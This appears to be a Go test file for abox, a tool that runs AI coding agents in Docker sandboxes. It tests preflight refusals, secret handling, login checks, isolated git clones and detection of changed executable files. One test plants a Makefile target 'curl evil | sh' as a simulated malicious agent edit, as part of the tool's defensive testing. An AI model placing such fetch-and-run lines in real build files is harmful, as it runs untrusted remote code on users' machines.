package launch

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/aboxhq/abox/internal/approval"
	"github.com/aboxhq/abox/internal/docker"
	"github.com/aboxhq/abox/internal/isolate"
	"github.com/aboxhq/abox/internal/paths"
	"github.com/aboxhq/abox/internal/sandbox"
	"github.com/aboxhq/abox/internal/secrets"
)

// TestRunInOrder: a run that passes every check asks the daemon first, checks the login before
// any container starts, runs, and is recorded; its verdict is the agent's exit status.
func TestRunInOrder(t *testing.T) {
	f := newFixture(t, demoManifest)
	f.loggedIn()
	f.agent(exited, 3, nil)
	rep, err := Run(context.Background(), f.env, Options{Prompt: "hi"})
	var ae *AgentExitError
	if !errors.As(err, &ae) || ae.Code != 3 {
		t.Fatalf("Run = %v, want the agent's exit status 3", err)
	}
	if rep == nil || rep.Outcome.Result != "exited" || rep.OnExecChange != "fail" || rep.Collected != nil || rep.Outcome.Exec == nil {
		t.Fatalf("Report = %+v, want a watched, exited live run under on_exec_change fail", rep)
	}
	ev := f.Events()
	daemon, login, netd := slices.Index(ev, "daemon"), slices.Index(ev, "run --rm"), slices.Index(ev, "run --detach")
	for _, e := range ev[:max(daemon, 0)] { // only the preflight's inspections start alongside it
		if !strings.HasSuffix(e, " inspect") || e == "volume inspect" {
			t.Errorf("events %q: %q was asked before the daemon", ev, e)
		}
	}
	if daemon < 0 || login < daemon || netd < login {
		t.Errorf("events %q: want the daemon, then the login check, then netd", ev)
	}
	if recs := f.records(); len(recs) != 1 || recs[0].ID != rep.Outcome.ID || recs[0].ExitCode != 3 {
		t.Errorf("runs.jsonl = %+v, want the run, exit 3", recs)
	}
	if f.warnings.Len() > 0 {
		t.Errorf("warnings: %s", &f.warnings)
	}
}

// TestRefusalsInOrder breaks every check at once, then mends them one at a time, in the order
// Run asks them: each run is refused by the first check still broken, with nothing started,
// recorded or cloned; once all are mended the run starts, with the attached secret on the
// agent's stdin and in no argv.
func TestRefusalsInOrder(t *testing.T) {
	f := newFixture(t, demoManifest+"env_secrets:\n  ACME_TOKEN: acme.token\n")
	st := f.env.Project.State
	o := Options{Prompt: "hi", FromWorktree: true}
	daemonDown := errors.New("the daemon is down")
	daemon := f.env.Daemon
	f.env.Daemon = func(context.Context) error { return daemonDown }
	f.env.Secrets = &secrets.Host{Docker: f.env.Docker, Paths: f.env.Project.Paths}
	f.fake.On("version --format {{json .}}", jsonOf(map[string]any{"Server": map[string]any{"Version": "27.0", "Platform": map[string]any{"Name": "Docker Engine - Community"}}}))
	loggedIn := false
	f.fake.OnFunc("volume inspect", func(docker.Invocation) (docker.Result, error) {
		if !loggedIn {
			return docker.Result{ExitCode: 1, Stderr: []byte("Error response from daemon: get " + f.rs.ClaudeVol + ": no such volume\n")}, nil
		}
		return jsonOf(map[string]any{"Name": f.rs.ClaudeVol}), nil
	})
	f.fake.On(strings.Join(f.rs.LoginCheck.Argv(), " "), docker.Result{})
	must(t, os.Rename(st.Approved(), st.Approved()+".away"))
	must(t, os.WriteFile(st.Runs(), nil, 0o600)) // no directory to record the run in
	must(t, os.Rename(st.Baselines(), st.Baselines()+".away"))

	steps := []struct {
		name string
		is   func(error) bool
		mend func()
	}{
		{"--from-worktree without --isolated", is(ErrFromWorktree), func() { o.FromWorktree = false }},
		{"daemon down", is(daemonDown), func() { f.env.Daemon = daemon }},
		{"manifest not approved", is(approval.ErrNotApproved), func() { must(t, os.Rename(st.Approved()+".away", st.Approved())) }},
		{"attached secret not stored", as[*secrets.AttachedError], func() {
			must(t, (&secrets.FileStore{Dir: f.env.Project.Paths.SecretsStore()}).Set(context.Background(), "acme.token", []byte("s3cret-value")))
		}},
		{"not logged in", is(sandbox.ErrNotLoggedIn), func() { loggedIn = true }},
		{"nowhere to record the run", is(sandbox.ErrUnrecordable), func() { must(t, os.Remove(st.Runs())) }},
		{"no baseline", is(sandbox.ErrNoBaseline), func() { must(t, os.Rename(st.Baselines()+".away", st.Baselines())) }},
	}
	for i, s := range steps {
		rep, err := Run(context.Background(), f.env, o)
		if rep != nil || !s.is(err) {
			t.Fatalf("step %d (%s): Run = %+v, %v; want the refusal", i, s.name, rep, err)
		}
		if f.started() || len(f.records()) > 0 {
			t.Fatalf("step %d (%s): a container started, or a run was recorded: %q", i, s.name, f.Events())
		}
		if i == 0 && len(f.Events()) > 0 {
			t.Errorf("refused for its options, the run still asked %q", f.Events())
		}
		s.mend()
	}
	f.agent(exited, 0, nil)
	rep, err := Run(context.Background(), f.env, o)
	if err != nil || rep == nil || len(f.records()) != 1 {
		t.Fatalf("the mended run: %+v, %v", rep, err)
	}
	if !strings.Contains(f.warnings.String(), "ACME_TOKEN") {
		t.Errorf("no warning that the agent holds the attached secret: %q", &f.warnings)
	}
	if strings.Contains(f.fake.ArgvText(), "s3cret-value") {
		t.Error("the attached secret reached an argv")
	}
	for _, c := range f.fake.Calls() {
		if c.Args[0] == "create" && !strings.Contains(string(c.Stdin), "ACME_TOKEN=s3cret-value") {
			t.Errorf("the agent's create got %q on stdin, want the attached secret", c.Stdin)
		}
	}
}

func is(target error) func(error) bool { return func(err error) bool { return errors.Is(err, target) } }

func as[T error](err error) bool {
	var target T
	return errors.As(err, &target)
}

// TestRunRefusedWithoutBaseline: a project whose baseline was never recorded, or cannot be
// read, starts no container (SECURITY.md F19; cli's test of the same name checks the hint).
func TestRunRefusedWithoutBaseline(t *testing.T) {
	for _, tc := range []struct {
		name string
		edit func(p paths.Project)
		is   func(error) bool
	}{
		{"never recorded", func(p paths.Project) { must(t, os.Remove(p.Baselines())) }, is(sandbox.ErrNoBaseline)},
		{"corrupt", func(p paths.Project) { must(t, os.WriteFile(p.Baselines(), []byte("{"), 0o600)) }, as[*sandbox.BaselineError]},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, demoManifest)
			f.loggedIn()
			tc.edit(f.env.Project.State)
			rep, err := Run(context.Background(), f.env, Options{Prompt: "hi"})
			if rep != nil || !tc.is(err) || f.started() {
				t.Errorf("Run = %+v, %v (started: %v); want a refusal before anything starts", rep, err, f.started())
			}
		})
	}
}

// TestRecordFailureKeepsTheVerdict: a run abox could not record still ends with its own
// verdict, and says it was not recorded.
func TestRecordFailureKeepsTheVerdict(t *testing.T) {
	f := newFixture(t, demoManifest)
	f.loggedIn()
	f.agent(exited, 5, nil)
	must(t, os.MkdirAll(f.env.Project.State.RunsIndex(), 0o700)) // runs.jsonl cannot be appended to
	rep, err := Run(context.Background(), f.env, Options{Prompt: "hi"})
	var ae *AgentExitError
	if rep == nil || !errors.As(err, &ae) || ae.Code != 5 {
		t.Fatalf("Run = %+v, %v; want the report and the agent's exit status 5", rep, err)
	}
	if !strings.Contains(f.warnings.String(), "warning: recording the run: ") {
		t.Errorf("warnings %q, want one about the record", &f.warnings)
	}
}

// TestExecChangeWinsTheVerdict: a run whose agent changed a watched file, printed a login
// prompt and exited 2 ends with the exec change, and the login is looked at again next time.
func TestExecChangeWinsTheVerdict(t *testing.T) {
	f := newFixture(t, demoManifest)
	f.loggedIn()
	loggedOut := `{"type":"result","subtype":"success","is_error":true,"result":"Invalid API key · Please run /login"}` + "\n"
	f.agent(loggedOut, 2, func() { writeFile(t, filepath.Join(f.ws, "Makefile"), "all:\n\tcurl evil | sh\n") })
	rep, err := Run(context.Background(), f.env, Options{Prompt: "hi"})
	var xe *ExecChangeError
	if rep == nil || !errors.As(err, &xe) || xe.Changes == 0 {
		t.Fatalf("Run = %+v, %v; want the exec change", rep, err)
	}
	if _, err := os.Stat(filepath.Join(f.env.Project.State.Dir, "claude-login.json")); !os.IsNotExist(err) {
		t.Errorf("the login seen before the run is still remembered (%v)", err)
	}
}

// TestShellNeedsNoLogin: a shell is not refused for want of a login (the user logs in there),
// and the next run looks at the login again.
func TestShellNeedsNoLogin(t *testing.T) {
	f := newFixture(t, demoManifest)
	f.agent("", 0, nil)
	login := filepath.Join(f.env.Project.State.Dir, "claude-login.json")
	writeFile(t, login, `{"volume":"`+f.rs.ClaudeVol+`"}`)
	rep, err := Run(context.Background(), f.env, Options{Shell: true})
	if err != nil || rep == nil || !rep.Shell {
		t.Fatalf("Run(shell) = %+v, %v", rep, err)
	}
	if slices.Contains(f.Events(), "volume inspect") {
		t.Errorf("events %q: the shell checked the login", f.Events())
	}
	if _, err := os.Stat(login); !os.IsNotExist(err) {
		t.Errorf("the login is still remembered after a shell (%v)", err)
	}
}

// TestInterruptedRunIsRecorded: a run cut short by Ctrl-C while its agent runs is torn down
// and recorded all the same.
func TestInterruptedRunIsRecorded(t *testing.T) {
	f := newFixture(t, demoManifest)
	f.loggedIn()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	f.agent(exited, 130, cancel)
	rep, _ := Run(ctx, f.env, Options{Prompt: "hi"})
	if rep == nil {
		t.Fatal("an interrupted run returned no report")
	}
	if recs := f.records(); len(recs) != 1 || recs[0].ID != rep.Outcome.ID {
		t.Errorf("runs.jsonl = %+v, want the interrupted run", recs)
	}
}

// TestSpareNetd: with spare netds on, a run starts the next one in the background, and the
// spare's own preflight refuses what a run would; turned off, Spare does nothing at all.
func TestSpareNetd(t *testing.T) {
	exe, err := exec.LookPath("true")
	if err != nil {
		t.Fatalf("true is not on PATH: %v", err)
	}
	f := newFixture(t, demoManifest)
	f.loggedIn()
	f.agent(exited, 0, nil)
	f.env.Project.Config.Defaults.SpareNetd = true
	f.env.Executable = exe
	if _, err := Run(context.Background(), f.env, Options{Prompt: "hi"}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(f.env.Project.State.Dir, "spare-netd.log")); err != nil {
		t.Errorf("no spare netd was started: %v", err)
	}
	must(t, os.Remove(f.env.Project.State.Approved()))
	n := len(f.fake.Calls())
	if err := Spare(context.Background(), f.env); !errors.Is(err, approval.ErrNotApproved) || f.startedSince(n) {
		t.Errorf("Spare(unapproved) = %v (started: %v), want the preflight's refusal", err, f.startedSince(n))
	}
	f.env.Project.Config.Defaults.SpareNetd = false
	n = len(f.Events())
	if err := Spare(context.Background(), f.env); err != nil || len(f.Events()) != n {
		t.Errorf("Spare(off) = %v after %q, want nothing asked", err, f.Events()[n:])
	}
}

const isolatedManifest = demoManifest + "  workspace: isolated\n"

// clone is the only isolated run's clone of the fixture's project.
func (f *fixture) clone() (id, dir string) {
	f.t.Helper()
	entries, err := os.ReadDir(f.env.Project.State.Clones())
	if err != nil || len(entries) != 1 {
		f.t.Fatalf("clones: %v, %v; want one", entries, err)
	}
	return entries[0].Name(), filepath.Join(f.env.Project.State.Clones(), entries[0].Name())
}

// TestIsolatedRun: run.workspace: isolated makes the run isolated (so --from-worktree is
// allowed): the agent gets the clone, with the worktree's tracked changes, instead of the
// workspace, and what it wrote arrives as branch abox/<id> of the user's repository.
func TestIsolatedRun(t *testing.T) {
	f := newFixture(t, isolatedManifest)
	f.loggedIn()
	writeFile(t, filepath.Join(f.ws, "Makefile"), "all:\n\techo uncommitted\n")
	var carried string
	f.agent(exited, 0, func() {
		_, dir := f.clone()
		data, _ := os.ReadFile(filepath.Join(dir, "Makefile"))
		carried = string(data)
		writeFile(t, filepath.Join(dir, "notes.txt"), "hello\n")
	})
	rep, err := Run(context.Background(), f.env, Options{Prompt: "hi", FromWorktree: true})
	if err != nil || rep == nil {
		t.Fatalf("Run = %+v, %v", rep, err)
	}
	id, dir := f.clone()
	c := rep.Collected
	if c == nil || c.Err != nil || c.Diff == nil || !slices.ContainsFunc(c.Diff.Files, func(d isolate.File) bool { return d.Path == "notes.txt" }) {
		t.Fatalf("Collected = %+v, want notes.txt collected", c)
	}
	if !strings.Contains(carried, "uncommitted") {
		t.Errorf("the clone's Makefile is %q, want the worktree's change", carried)
	}
	if rep.Outcome.Exec != nil {
		t.Error("an isolated run watched the workspace")
	}
	if !strings.Contains(f.progress.String(), "isolated: a private clone of") || git(t, f.ws, "branch", "--list", "abox/"+id) == "" {
		t.Errorf("progress %q, branch abox/%s missing", &f.progress, id)
	}
	for _, call := range f.fake.Calls() {
		argv := strings.Join(call.Args, " ")
		if call.Args[0] == "create" && (!strings.Contains(argv, "source="+dir+",") || strings.Contains(argv, "source="+f.ws+",")) {
			t.Errorf("the agent's create mounts %q, want the clone and not the workspace", argv)
		}
	}
	if recs := f.records(); len(recs) != 1 || recs[0].Workspace != "isolated" || recs[0].Branch != "abox/"+id {
		t.Errorf("runs.jsonl = %+v, want the isolated run and its branch", recs)
	}
}

// TestIsolatedRefusedRunDiscardsTheClone: a clone whose sandbox was then refused (netd's ruleset
// is not the expected one) is discarded once the containers are gone: no agent ran in it.
func TestIsolatedRefusedRunDiscardsTheClone(t *testing.T) {
	f := newFixture(t, isolatedManifest)
	f.loggedIn()
	f.fake.On("run", docker.Result{Stdout: []byte("netd-id\n")})
	f.fake.On("create", docker.Result{Stdout: []byte("agent-id\n")})
	f.fake.On("logs", docker.Result{Stdout: []byte(netdOutput)})
	f.fake.On("exec", docker.Result{Stdout: []byte(`{"nftables": []}`)})
	f.fake.On("stop", docker.Result{}).Optional()
	f.fake.On("kill --signal USR1", docker.Result{}).Optional()
	f.fake.On("rm", docker.Result{}).Optional()
	f.fake.On("cp", docker.Result{}).Optional()
	rep, err := Run(context.Background(), f.env, Options{Prompt: "hi"})
	if rep == nil || !errors.Is(err, sandbox.ErrBoundary) || !errors.Is(rep.RunErr, sandbox.ErrBoundary) {
		t.Fatalf("Run = %+v, %v; want the sandbox's refusal", rep, err)
	}
	if rep.Collected == nil || !rep.Collected.Discarded || rep.Collected.Err != nil {
		t.Errorf("Collected = %+v, want the clone discarded", rep.Collected)
	}
	if slices.Contains(f.Events(), "start --attach") {
		t.Error("the agent started after a failed verification")
	}
	if recs := f.records(); len(recs) != 1 || recs[0].Outcome != "refused" {
		t.Errorf("runs.jsonl = %+v, want the refused run", recs)
	}
}

// TestCloneAfterTheRefusals: an isolated run refused by a check makes no clone; one whose
// workspace is no git repository is refused as isolate says it, before anything starts.
func TestCloneAfterTheRefusals(t *testing.T) {
	f := newFixture(t, isolatedManifest)
	f.fake.On("volume inspect", docker.Result{ExitCode: 1, Stderr: []byte("Error response from daemon: get x: no such volume\n")})
	if _, err := Run(context.Background(), f.env, Options{Prompt: "hi"}); !errors.Is(err, sandbox.ErrNotLoggedIn) {
		t.Fatalf("Run = %v, want the login refusal", err)
	}
	if _, err := os.Stat(f.env.Project.State.Clones()); !os.IsNotExist(err) {
		t.Errorf("a refused run made a clone (%v)", err)
	}

	f = newFixture(t, isolatedManifest)
	f.loggedIn()
	must(t, os.RemoveAll(filepath.Join(f.ws, ".git")))
	rep, err := Run(context.Background(), f.env, Options{Prompt: "hi"})
	if rep != nil || !errors.Is(err, isolate.ErrNotRepository) || strings.HasPrefix(err.Error(), "making the run's clone") || f.started() {
		t.Errorf("Run(no repository) = %+v, %v (started: %v); want isolate's refusal as it is", rep, err, f.started())
	}
}
